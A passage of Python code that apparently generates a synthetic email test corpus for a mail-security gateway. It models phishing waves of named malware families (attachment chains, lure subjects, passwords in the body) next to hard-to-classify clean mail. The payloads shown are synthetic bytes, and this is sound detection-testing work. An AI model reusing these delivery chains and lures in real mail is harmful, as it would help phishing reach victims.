    return wave(ctx, "guloader.img-vbs", "brand", subj, lead, [att(ctx, img, sname[:-4] + ".img", [describe(sname, s)])],
                traits=("disk_image", "script_in_image"))


def fam_nanocore(ctx):
    rng = ctx.rng
    exe = G.synthetic_pe(rng, rng.randint(200000, 500000))
    ename = exe_named(rng, ["Shipment Details", "Invoice", "DHL AWB", "Bank Slip"])
    subj, lead, _ = simple_lure(ctx, "shipping")
    if rng.random() < 0.5:
        img = img_of(ctx, [(ename, exe)])
        return wave(ctx, "nanocore.img-exe", "brand", subj, lead, [att(ctx, img, ename.split(".")[0] + ".img", [describe(ename, exe)])],
                    traits=("disk_image", "exe_in_image"))
    z = zipped(ctx, [(ename, exe)])
    return wave(ctx, "nanocore.zip-exe", "brand", subj, lead, [att(ctx, z, ename.split(".")[0] + ".zip", [describe(ename, exe)])],
                traits=("executable_in_zip",))


def fam_pikabot(ctx):
    rng = ctx.rng
    s = js_dropper(rng)
    sname = f"{rng.choice(['Gen', 'Doc', 'Data', 'Rep'])}_{rng.randint(100000, 999999)}.js"
    z = zipped(ctx, [(sname, s)])
    if rng.random() < 0.3:
        pw = mkpw(rng)
        z = zipped(ctx, [(sname, s)], pw)
        return wave(ctx, "pikabot.pwzip-js", "compromised", "", "Please see attached. " + pw_text(rng, pw),
                    [att(ctx, z, sname[:-3] + ".zip", [describe(sname, s)], encrypted=True, password=pw)], chain=True,
                    traits=("encrypted_zip", "password_in_body", "script_in_archive"))
    return wave(ctx, "pikabot.zip-js", "compromised", "", rng.choice(INVOICE_LEADS),
                [att(ctx, z, sname[:-3] + ".zip", [describe(sname, s)])], chain=True, traits=("script_in_archive",))


def fam_lokibot(ctx):
    rng = ctx.rng
    exe = G.synthetic_pe(rng, rng.randint(100000, 300000))
    ename = exe_named(rng, PO_STEMS)
    subj, lead, _ = simple_lure(ctx, "po")
    if rng.random() < 0.5:
        iso = iso_of(ctx, [(ename, exe)])
        return wave(ctx, "lokibot.iso-exe", "brand", subj, lead, [att(ctx, iso, ename.split(".")[0] + ".iso", [describe(ename, exe)])],
                    traits=("iso", "exe_in_image"))
    gz = gzip.compress(exe, 9, mtime=int(ctx.ms / 1000) - 7200)
    return wave(ctx, "lokibot.gz-exe", "brand", subj, lead, [att(ctx, gz, ename.split(".")[0] + ".gz", [describe(ename, exe)])],
                traits=("executable_in_gzip",))


def fam_trickbot(ctx):
    rng = ctx.rng
    if rng.random() < 0.5:
        d = docx(rng, G.paragraphs(rng, G.BUSINESS, 400), ctx.ms, vba_modules=macro_source(rng, "doc"))
        return wave(ctx, "trickbot.docm", "brand", *simple_lure(ctx, "payroll")[:2],
                    [att(ctx, d, docname(rng, ["Payroll", "Review", "Complaint"], "docm"))], traits=("macro_autoexec",))
    x = xlsm(rng, ctx.ms, "", "Report", macro_source(rng, "xls"))
    return wave(ctx, "trickbot.xlsm", "brand", *simple_lure(ctx, "invoice")[:2],
                [att(ctx, x, docname(rng, ["Report", "Statement"], "xlsm"))], traits=("macro_autoexec",))


def fam_strela(ctx):
    rng = ctx.rng
    if rng.random() < 0.5:  # November 2022: ISO with an LNK and a DLL (or HTML/DLL polyglot)
        dll = synthetic_dll(rng, rng.randint(30000, 120000))
        dname = G.alnum(rng, 6, "abcdefghijklmnopqrstuvwxyz") + ".dll"
        files = [(docname(rng, ["Factura", "Invoice"], "lnk"), lnk_rundll(rng, ctx.ms, dname)), (dname, dll, True)]
        iso = iso_of(ctx, files)
        return wave(ctx, "strelastealer.iso-lnk-dll", "brand", rng.choice(["Factura", "Rechnung", "Fattura"]) + f" {ref(rng)}",
                    "Adjunto la factura. / Anbei die Rechnung.", [att(ctx, iso, docname(rng, ["Factura", "Rechnung"], "iso"),
                                                                     [describe(f[0], f[1]) for f in files])],
                    traits=("iso", "lnk_system_binary", "dll_in_image"))
    s = js_dropper(rng)   # 2024: zip holding a JScript file
    sname = f"{rng.randint(100000000, 999999999)}.js"
    z = zipped(ctx, [(sname, s)])
    return wave(ctx, "strelastealer.zip-js", "brand", rng.choice(["Rechnung", "Factura", "Fattura", "Invoice"]) + f" {ref(rng)}",
                rng.choice(INVOICE_LEADS), [att(ctx, z, sname[:-3] + ".zip", [describe(sname, s)])],
                traits=("script_in_archive",))


MODERN_FAMILIES = [  # (weight, family, function)
    (0.09, "emotet", fam_emotet),
    (0.09, "qakbot", fam_qakbot),
    (0.07, "icedid", fam_icedid),
    (0.08, "agenttesla", fam_agenttesla),
    (0.06, "bumblebee", fam_bumblebee),
    (0.09, "onenote-wave", fam_onenote),
    (0.06, "formbook", fam_formbook),
    (0.05, "remcos", fam_remcos),
    (0.05, "dridex", fam_dridex),
    (0.05, "ursnif", fam_ursnif),
    (0.06, "asyncrat", fam_asyncrat),
    (0.05, "guloader", fam_guloader),
    (0.04, "nanocore", fam_nanocore),
    (0.05, "pikabot", fam_pikabot),
    (0.04, "lokibot", fam_lokibot),
    (0.04, "trickbot", fam_trickbot),
    (0.03, "strelastealer", fam_strela),
]


# =============================================================================
# A container in no class: the gateway-day stream's unknown wave
# =============================================================================


def novel_container(rng, payload_name, payload):
    """A made-up notebook format ("QNBK", version 1) that no engine knows:
    a fixed 16-byte header (magic, version, count), a page of UTF-16 text,
    then each embedded item as a name and deflated bytes.  It stands for what
    OneNote was in January 2023: a new wrapper a wave adopts overnight."""
    page = rng.choice(["Double click to open the document", "Protected content - click to view"]).encode("utf-16-le")
    name = payload_name.encode("utf-16-le")
    z = zlib.compress(payload, 6)
    body = struct.pack("<I", len(page)) + page + struct.pack("<HI", len(name), len(z)) + name + z
    return b"QNBK" + struct.pack("<HHII", 1, 0, 1, len(body)) + body + rng.randbytes(rng.randint(64, 256))


def fam_novel(ctx):
    rng = ctx.rng
    payload = ps1_script(rng) if rng.random() < 0.5 else cmd_dropper(rng)
    pname = rng.choice(["open.cmd", "view.cmd", "document.ps1"])
    blob = novel_container(rng, pname, payload + rng.randbytes(rng.randint(2000, 6000)))
    subj, lead, _ = simple_lure(ctx, rng.choice(["invoice", "shipping"]))
    return wave(ctx, "novel.qnb", rng.choice(["brand", "webmail", "compromised"]), subj, lead,
                [att(ctx, blob, docname(rng, ["Remittance", "Invoice", "Document"], "qnb"))],
                traits=("unknown_container",))


# =============================================================================
# HARD CLEAN MAIL
# =============================================================================


def clean_hdrs(ctx, name, addr, dom, subject, mailer=None, extra=()):
    return G.clean_common(ctx, name, addr, dom, subject, G.fmt_addr(G.display(ctx.rcpt_first, ctx.rcpt_last), ctx.rcpt),
                          mailer or ctx.rng.choice(MODERN_MAILERS), extra=extra)


def clean_office(ctx):
    """Real .docx/.xlsx without macros, from business partners."""
    rng = ctx.rng
    name, addr, dom, first = G.clean_sender(ctx)
    parts = []
    for _ in range(rng.choice([1, 1, 2])):
        if rng.random() < 0.5:
            d = docx(rng, G.paragraphs(rng, G.BUSINESS, rng.randint(500, 3000)), ctx.ms, name, "Proposal")
            parts.append(att(ctx, d, rng.choice(["Proposal_v3.docx", "Minutes 2025-02.docx", "Statement of Work.docx",
                                                 "Contract draft.docx"])))
        else:
            x = G.synthetic_xlsx(rng, rng.randint(8000, 60000), name, "Budget", ctx.ms)
            parts.append(att(ctx, x, rng.choice(["Budget 2025.xlsx", "Price list.xlsx", "Forecast Q2.xlsx", "Timesheet.xlsx"])))
    subj, lead, _ = simple_lure(ctx, "invoice") if rng.random() < 0.3 else (rng.choice(
        ["Updated proposal", "Minutes from Tuesday", "Budget figures", "RE: contract draft"]), "", "")
    text = G.wrap(f"Hi {ctx.rcpt_first.title()},\n\n{lead} " + " ".join(G.paragraphs(rng, G.BUSINESS, 400)) +
                  f"\n\nBest regards,\n{name}\n")
    hs = clean_hdrs(ctx, name, addr, dom, subj)
    ctx.trait("office_document", "innocent_lure_words" if lead else "office_document")
    return G.finish(ctx, hs, body_and_parts(ctx, text, parts), G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "office-document")


def clean_macro_workbook(ctx):
    """A finance workbook WITH benign macros (.xlsm, sometimes an old .xls),
    some with a Workbook_Open that only activates a sheet."""
    rng = ctx.rng
    name, addr, dom, first = G.clean_sender(ctx)
    auto = "Workbook_Open" if rng.random() < 0.4 else None
    mods = macro_source(rng, "xls", benign=True, auto=auto)
    if rng.random() < 0.75:
        data, fname = xlsm(rng, ctx.ms, name, "Report", mods), rng.choice(["Monthly report.xlsm", "Cost model v7.xlsm",
                                                                          "Timesheet template.xlsm"])
    else:
        data, fname = ole_xls(rng, ctx.ms, mods), rng.choice(["Budget tool.xls", "Inventory.xls"])
    text = G.wrap(f"Hi {ctx.rcpt_first.title()},\n\nhere is the workbook with the macro that formats the report. "
                  "Enable editing and run FormatReport if the columns look off.\n\n" +
                  " ".join(G.paragraphs(rng, G.BUSINESS, 300)) + f"\n\n{first.title()}\n")
    hs = clean_hdrs(ctx, name, addr, dom, rng.choice(["Monthly report", "Updated cost model", "Timesheet template"]))
    ctx.trait("benign_macro", "macro_autoexec_benign" if auto else "benign_macro")
    return G.finish(ctx, hs, body_and_parts(ctx, text, [att(ctx, data, fname)]),
                    G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "macro-workbook")


def clean_pdf_statement(ctx):
    """A bank or card statement as a password-protected PDF (RC4-128), the
    password rule (not the password) or the password itself in the body."""
    rng = ctx.rng
    bank, dom = rng.choice([("Woodgrove Bank", "woodgrove.example"), ("Contoso Card Services", "contoso.example"),
                            ("Fabrikam Insurance", "fabrikam.example")])
    pw = rng.choice([G.digits(rng, 6), ctx.rcpt_last.upper()[:4] + G.digits(rng, 4)])
    pdf = pdf_encrypted(rng, [f"{bank} statement", f"Account ending {G.digits(rng, 4)}", "Balance: see page 1"] +
                          G.paragraphs(rng, G.BUSINESS, 300), pw, G.alnum(rng, 16), producer=bank, ms=ctx.ms)
    text = G.wrap(f"Dear {ctx.rcpt_first.title()} {ctx.rcpt_last.title()},\n\nyour monthly statement is attached as a "
                  f"protected PDF. {rng.choice([f'The password is {pw}.', f'Password: {pw}', f'To open it, enter {pw}.'])}\n\n"
                  f"Never share your online banking credentials. {bank} will never ask for them by e-mail.\n\n{bank}\n")
    addr = f"statements@{dom}"
    hs = clean_hdrs(ctx, bank, addr, dom, rng.choice(["Your monthly statement", "Your e-statement is ready"]),
                    mailer=("X-Mailer", "Statement Server 4.2", "javamail", "javamail"))
    ctx.trait("encrypted_pdf", "password_in_body")
    return G.finish(ctx, hs, body_and_parts(ctx, text, [att(ctx, pdf, f"Statement_{rng.randint(202501, 202512)}.pdf")]),
                    G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "pdf-statement")


def clean_hr_zip(ctx):
    """HR or payroll documents (PDFs only) in a ZipCrypto zip with the password
    in the body: from an external payroll provider, or from the
    organisation's own HR through its hosted mail provider (the client IP is
    the provider's, the From is our own domain: issue 12's 20 false
    positives)."""
    rng = ctx.rng
    pw = mkpw(rng) + G.digits(rng, 2)
    members = [(f"{n}.pdf", G.synthetic_pdf(rng, rng.randint(8000, 40000), n))
               for n in rng.sample(["Payslip_2025_02", "Contract_amendment", "Tax_form_W2", "Benefits_summary",
                                    "Salary_review", "Pension_statement"], rng.randint(1, 3))]
    z = zipped(ctx, members, pw)
    hosted = rng.random() < 0.5
    if hosted:
        dom = ctx.our_domain
        addr = rng.choice(["hr", "payroll", "people"]) + "@" + dom
        name = "Human Resources"
        env = {"client_ip": f"40.107.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
               "helo": f"EUR0{rng.randint(1, 5)}-VI1-obe.outbound.protection.outlook.example",
               "mail_from": addr, "rcpt_to": [ctx.rcpt], "received_at": ctx.ms}
        ctx.trait("hosted_provider_internal", "claims_own_domain")
    else:
        dom, name = rng.choice([("payroll-provider.example", "PayFlow Payroll Services"), ("adatum.example", "A. Datum HR Services")])
        addr = f"noreply@{dom}"
        env = G.clean_envelope(ctx, addr, dom, [ctx.rcpt])
    text = G.wrap(f"Dear {ctx.rcpt_first.title()},\n\nplease find your documents attached in a protected archive. "
                  f"{pw_text(rng, pw)}\n\nIf you have questions, contact your HR representative.\n\n{name}\n")
    hs = clean_hdrs(ctx, name, addr, dom, rng.choice(["Your payslip", "Payroll documents", "Your contract amendment",
                                                      "Annual salary review"]))
    ctx.trait("encrypted_zip", "password_in_body", "zip_of_documents")
    root = body_and_parts(ctx, text, [att(ctx, z, rng.choice(["documents.zip", "Payroll_2025.zip", "HR_documents.zip"]),
                                          [describe(n, d) for n, d in members], encrypted=True, password=pw)])
    return G.finish(ctx, hs, root, env, "hr-payroll-zip")


def clean_it_iso(ctx):
    """IT's software delivery: an ISO with an installer, an MSI-like file and
    a readme, from an internal sender through the internal relay."""
    rng = ctx.rng
    dom = ctx.our_domain
    addr = rng.choice(["it-services", "servicedesk", "deploy"]) + "@" + dom
    tool = rng.choice(["VPN client 5.2", "Printer drivers", "CAD viewer 2025", "Backup agent 8.1"])
    stem = tool.split()[0]
    files = [("setup.exe", G.synthetic_pe(rng, rng.randint(60000, 200000))),
             ("README.txt", f"{tool}\r\nRun setup.exe as described in the IT wiki.\r\n".encode()),
             (f"{stem}.cab" if rng.random() < 0.5 else "license.txt", rng.randbytes(rng.randint(2000, 20000)))]
    iso = iso_of(ctx, files, volid=stem.upper()[:16])
    text = G.wrap(f"Hello,\n\nas announced, here is the installation image for {tool}. Mount the ISO and run "
                  "setup.exe, or wait for the automatic rollout on Thursday.\n\nIT Services\n")
    hub = f"exch0{rng.randint(1, 2)}.{dom}"
    env = {"client_ip": f"10.0.{rng.randint(1, 3)}.{rng.randint(2, 30)}", "helo": hub, "mail_from": addr,
           "rcpt_to": [ctx.rcpt], "received_at": ctx.ms}
    hs = clean_hdrs(ctx, "IT Services", addr, dom, f"Installation image: {tool}")
    ctx.trait("internal", "iso", "exe_in_image")
    return G.finish(ctx, hs, body_and_parts(ctx, text, [att(ctx, iso, f"{stem}_install.iso", [describe(n, d) for n, d in files])]),
                    env, "it-iso-delivery")


def clean_notification(ctx):
    """A service notification with links (shared document, signature request,
    ticket update), HTML with buttons, no attachment."""
    rng = ctx.rng
    svc, dom = rng.choice([("SharePoint Online", "sharepoint.example"), ("Dropbox", "dropbox.example"),
                           ("DocuSign", "docusign.example"), ("Jira", "atlassian.example"), ("Box", "box.example")])
    who = G.display(*G.person(rng))
    doc = rng.choice(["Q2 plan.docx", "Invoice 2025-118.pdf", "Board deck.pptx", "Shipping schedule.xlsx"])
    link = f"https://{dom}/s/{G.alnum(rng, 24)}"
    html = (f"<html><body style=\"font-family:Segoe UI\"><p>{who} shared a file with you:</p><p><b>{doc}</b></p>"
            f"<p><a href=\"{link}\" style=\"background:#0078d4;color:#fff;padding:8px 16px\">Open</a></p>"
            f"<p style=\"font-size:11px\">You received this because {who} shared a document. "
            f"<a href=\"https://{dom}/settings\">Notification settings</a></p></body></html>")
    text = f"{who} shared a file with you: {doc}\n\nOpen: {link}\n"
    root = G.multipart(ctx, "alternative", [G.text_part(ctx, text, charset="utf-8"),
                                            G.text_part(ctx, html, "html", "utf-8", cte="quoted-printable")], "javamail",
                       preamble=False)
    addr = f"no-reply@{dom}"
    hs = clean_hdrs(ctx, svc, addr, dom, f"{who} shared \"{doc}\" with you",
                    mailer=("X-Mailer", svc, "javamail", "javamail"))
    ctx.trait("notification", "links")
    return G.finish(ctx, hs, root, G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "notification-link")


def clean_newsletter_images(ctx):
    """An HTML newsletter with inline (cid:) images and data: URI images."""
    rng = ctx.rng
    brand, dom = rng.choice(G.NEWSLETTERS)
    uid = G.hexs(rng, 16, False)
    html, text, unsub = G.newsletter_content(rng, brand, dom, uid, rng.randint(8000, 40000))
    logo = G.synthetic_png(rng, rng.randint(1500, 5000))
    icon = G.synthetic_png(rng, 400)
    cid = f"logo.{G.hexs(rng, 8, False)}@{dom}"
    html = html.replace("<center>", f'<center><img src="cid:{cid}" alt="{brand}" width="200">'
                        f'<img src="data:image/png;base64,{base64.b64encode(icon).decode()}" width="16" height="16">', 1)
    alt = G.multipart(ctx, "alternative", [G.text_part(ctx, G.wrap(text), charset="utf-8"),
                                           G.text_part(ctx, html, "html", "utf-8", cte="quoted-printable")], "php",
                      preamble=False)
    img = G.attachment(ctx, logo, "image/png", "logo.png", disposition="inline", extra_headers=[f"Content-ID: <{cid}>"])
    root = G.multipart(ctx, "related", [alt, img], "php", preamble=False)
    addr = f"news@{dom}"
    hs = [G.sender_received(ctx, f"out1.bounces.{dom}", ctx.ms - 5000, 0, client=f"app3.{dom}"),
          f"Message-ID: {G.message_id(rng, 'javamail', dom, ctx.ms)}", f"Date: {ctx.date(ctx.ms - 60000)}",
          f"From: {G.fmt_addr(brand, addr)}", f"To: {ctx.rcpt}", f"Subject: {rng.choice(G.NEWS)}", "MIME-Version: 1.0",
          f"List-Unsubscribe: <{unsub}>", "Precedence: bulk"]
    env = {"client_ip": G.domain_ip(f"bounces.{dom}"), "helo": f"out1.bounces.{dom}",
           "mail_from": f"bounce-{uid}@bounces.{dom}", "rcpt_to": [ctx.rcpt], "received_at": ctx.ms}
    ctx.trait("newsletter", "inline_images", "data_uri")
    return G.finish(ctx, hs, root, env, "newsletter-images")


def clean_shared_link(ctx):
    """A colleague sending a link to a file on the shared drive or a cloud share."""
    rng = ctx.rng
    name, addr, dom, first = G.clean_sender(ctx)
    link = rng.choice([f"\\\\fs01.{ctx.our_domain}\\projects\\{G.alnum(rng, 6)}\\Q2 plan.xlsx",
                       f"https://{dom.split('.')[0]}.sharepoint.example/:x:/g/{G.alnum(rng, 30)}",
                       f"https://drive.example.com/file/d/{G.alnum(rng, 28)}/view"])
    text = G.wrap(f"Hi {ctx.rcpt_first.title()},\n\nthe file is too big for mail, it is here:\n{link}\n\n" +
                  " ".join(G.paragraphs(rng, G.BUSINESS, 200)) + f"\n\n{first.title()}\n")
    hs = clean_hdrs(ctx, name, addr, dom, rng.choice(["Link to the file", "the large file", "RE: documents"]))
    ctx.trait("links")
    return G.finish(ctx, hs, G.text_part(ctx, text), G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "shared-link")


def _pgp_armor(rng):
    body = bytes([0xC2, 0x75]) + b"\x04\x01\x16\x0a\x00\x1d\x16\x21\x04" + rng.randbytes(20) + rng.randbytes(80)
    crc = 0xB704CE
    for b in body:
        crc ^= b << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    b64 = base64.b64encode(body).decode()
    lines = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    return ("-----BEGIN PGP SIGNATURE-----\n\n" + "\n".join(lines) + "\n=" +
            base64.b64encode(struct.pack(">I", crc & 0xFFFFFF)[1:]).decode() + "\n-----END PGP SIGNATURE-----\n")


def clean_signed(ctx):
    """S/MIME (multipart/signed, application/pkcs7-signature smime.p7s) or
    PGP/MIME signed mail, sometimes with a PDF.  The signature bytes are
    synthetic (a DER SEQUENCE shaped like SignedData, or an armoured OpenPGP
    signature packet with a correct CRC-24): nothing here verifies them."""
    rng = ctx.rng
    name, addr, dom, first = G.clean_sender(ctx)
    text = G.wrap(f"Hello {ctx.rcpt_first.title()},\n\n" + " ".join(G.paragraphs(rng, G.BUSINESS, 500)) +
                  f"\n\n{name}\n")
    inner = G.text_part(ctx, text)
    if rng.random() < 0.4:
        inner = G.multipart(ctx, "mixed", [inner, att(ctx, G.synthetic_pdf(rng, rng.randint(8000, 40000), "Contract"),
                                                      "Signed contract.pdf")], "exchange")
    if rng.random() < 0.6:
        oid = bytes.fromhex("06092a864886f70d010702")
        content = rng.randbytes(rng.randint(1200, 3000))
        inner_seq = b"\xa0\x82" + struct.pack(">H", len(content)) + content
        der = b"\x30\x82" + struct.pack(">H", len(oid) + len(inner_seq)) + oid + inner_seq
        sig = G.attachment(ctx, der, 'application/pkcs7-signature', "smime.p7s", b64w=76)
        root = G.multipart(ctx, "signed", [inner, sig], "exchange", preamble=True,
                           params=['protocol="application/pkcs7-signature"', "micalg=sha-256"])
        ctx.trait("smime_signed")
        kind = "smime-signed"
    else:
        armor = _pgp_armor(rng).encode()
        sigpart = G.Leaf(["Content-Type: application/pgp-signature; name=\"signature.asc\"",
                          "Content-Description: OpenPGP digital signature",
                          "Content-Disposition: attachment; filename=\"signature.asc\""], armor)
        ctx.record("signature.asc", "application/pgp-signature", armor.replace(b"\n", b"\r\n"), "")
        root = G.multipart(ctx, "signed", [inner, sigpart], "moz", preamble=True,
                           params=['protocol="application/pgp-signature"', "micalg=pgp-sha256"])
        ctx.trait("pgp_signed")
        kind = "pgp-signed"
    hs = clean_hdrs(ctx, name, addr, dom, rng.choice(["Signed: contract", "Agreement", "RE: the signed copy"]))
    return G.finish(ctx, hs, root, G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), kind)


def clean_forwarded(ctx):
    """A forwarded message (message/rfc822) that carries an invoice PDF."""
    rng = ctx.rng
    name, addr, dom, first = G.clean_sender(ctx)
    oname, oaddr, odom, _ = G.clean_sender(ctx)
    pdf = G.synthetic_pdf(rng, rng.randint(10000, 50000), "Invoice")
    orig_body = G.multipart(ctx, "mixed", [G.text_part(ctx, G.wrap("Please find the invoice attached.\n\nRegards,\n" + oname)),
                                           G.attachment(ctx, pdf, "application/pdf", f"Invoice {ref(rng)}.pdf",
                                                        nested=True)], "exchange")
    orig_hs = [f"From: {G.fmt_addr(oname, oaddr)}", f"To: {addr}", f"Subject: Invoice {ref(rng)}",
               f"Date: {ctx.date(ctx.ms - 86400000)}", f"Message-ID: {G.message_id(rng, 'exchange', odom, ctx.ms - 86400000)}",
               "MIME-Version: 1.0"] + orig_body.headers
    orig = "\n".join(orig_hs).encode() + b"\n\n" + G.render_body(orig_body)
    fwd = G.Leaf(["Content-Type: message/rfc822", "Content-Disposition: attachment; filename=\"Invoice.eml\""], orig)
    root = G.multipart(ctx, "mixed", [G.text_part(ctx, G.wrap(f"{ctx.rcpt_first.title()}, can you check this one? "
                                                              f"Thanks, {first.title()}")), fwd], "exchange")
    hs = clean_hdrs(ctx, name, addr, dom, "FW: Invoice")
    ctx.trait("forwarded", "pdf")
    return G.finish(ctx, hs, root, G.clean_envelope(ctx, addr, dom, [ctx.rcpt]), "forwarded")


MODERN_CLEAN = [  # (weight, function): hard clean mail first, then ordinary mail
    (0.09, clean_office),
    (0.07, clean_macro_workbook),
    (0.06, clean_pdf_statement),
    (0.07, clean_hr_zip),
    (0.04, clean_it_iso),
    (0.07, clean_notification),
    (0.06, clean_newsletter_images),
    (0.05, clean_shared_link),
    (0.06, clean_signed),
    (0.05, clean_forwarded),
    (0.05, G.clean_calendar),
    (0.08, G.clean_business),
    (0.04, G.clean_business_zip),
    (0.10, G.clean_personal),
    (0.06, G.clean_newsletter),
    (0.05, G.clean_dsn),
]

# One-off clean mail of a modern gateway-day stream: the normal stream mix plus
# the hard clean mail above.
MODERN_STREAM_ONEOFF = [(w * 0.5, fn) for w, fn in G.STREAM_ONEOFF] + [(w * 0.5, fn) for w, fn in MODERN_CLEAN[:10]]
